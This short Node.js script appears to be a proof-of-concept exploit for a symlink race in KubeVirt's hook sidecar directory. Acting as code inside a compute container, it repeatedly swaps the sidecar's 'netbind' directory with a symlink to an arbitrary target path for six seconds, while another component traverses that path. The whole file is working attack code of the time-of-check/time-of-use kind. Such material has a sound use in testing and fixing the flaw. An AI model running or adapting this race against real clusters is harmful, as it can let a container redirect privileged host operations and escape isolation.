/** What a compute container can try: to swap a sidecar's directory for a link, again and again, while somebody goes through it. */
import { renameSync, symlinkSync, writeFileSync } from "node:fs";

const HOOKS = "/var/run/kubevirt-hooks";
const [target = ""] = process.argv.slice(2);
// All of it in the sidecar's own directory: a launcher takes a socket in any other for a hook socket.
const place = `${HOOKS}/hook-sidecar-0`;
const own = `${place}/netbind`;
symlinkSync(target, `${place}/link`);
writeFileSync(`${HOOKS}/swapping`, "");
for (const end = performance.now() + 6000; performance.now() < end; ) {
  renameSync(own, `${place}/aside`);
  renameSync(`${place}/link`, own);
  renameSync(own, `${place}/link`);
  renameSync(`${place}/aside`, own);
}
